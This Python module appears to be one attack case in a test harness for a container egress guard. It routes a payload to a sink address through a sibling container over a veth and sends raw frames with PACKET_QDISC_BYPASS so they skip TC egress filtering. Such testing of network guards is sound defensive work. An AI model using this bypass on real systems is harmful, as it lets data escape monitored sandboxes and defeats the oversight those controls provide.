"""Out by way of another workload, over a veth between the two that has no end on the host.

As two containers have that share a network of their own. The sibling forwards. The value goes the
plain way, and past TC egress, where no guard can be.
"""

from __future__ import annotations

import fcntl
import socket
import struct
import time

from attacks.frames import ethernet, udp4
from attacks.inner import run
from attacks.target import SIOCGIFHWADDR, Impossible, Target, refused

SIDE, HERE, THERE = "side0", "10.78.0.1", "10.78.0.2"  # as topology.py makes it
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
ROUNDS = 5


def main(target: Target) -> None:
    """Route to the sink over the sibling, and send."""
    run("ip", "route", "replace", f"{target.address}/32", "via", THERE, "dev", SIDE)
    packet = udp4(HERE, target.address, target.port, target.payload)
    frame = ethernet(mac(SIDE), neighbour(), packet)
    for _ in range(ROUNDS):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out, refused():
            out.sendto(target.payload, (target.address, target.port))
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out, refused():
            out.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
            out.bind((SIDE, 0))
            out.send(frame)
        time.sleep(0.1)


def mac(device: str) -> str:
    """Of a device of the namespace."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        answer = fcntl.ioctl(asker, SIOCGIFHWADDR, struct.pack("=16s16x", device.encode()))
    return answer[18:24].hex(":")


def neighbour() -> str:
    """The sibling's MAC address.

    Raises:
        Impossible: it does not answer.
    """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.sendto(b"", (THERE, 9))
    for _ in range(200):
        found = run("ip", "neigh", "show", THERE, "dev", SIDE).split()
        if "lladdr" in found:
            return found[found.index("lladdr") + 1]
        time.sleep(0.01)
    raise Impossible(f"{THERE} does not answer to ARP")
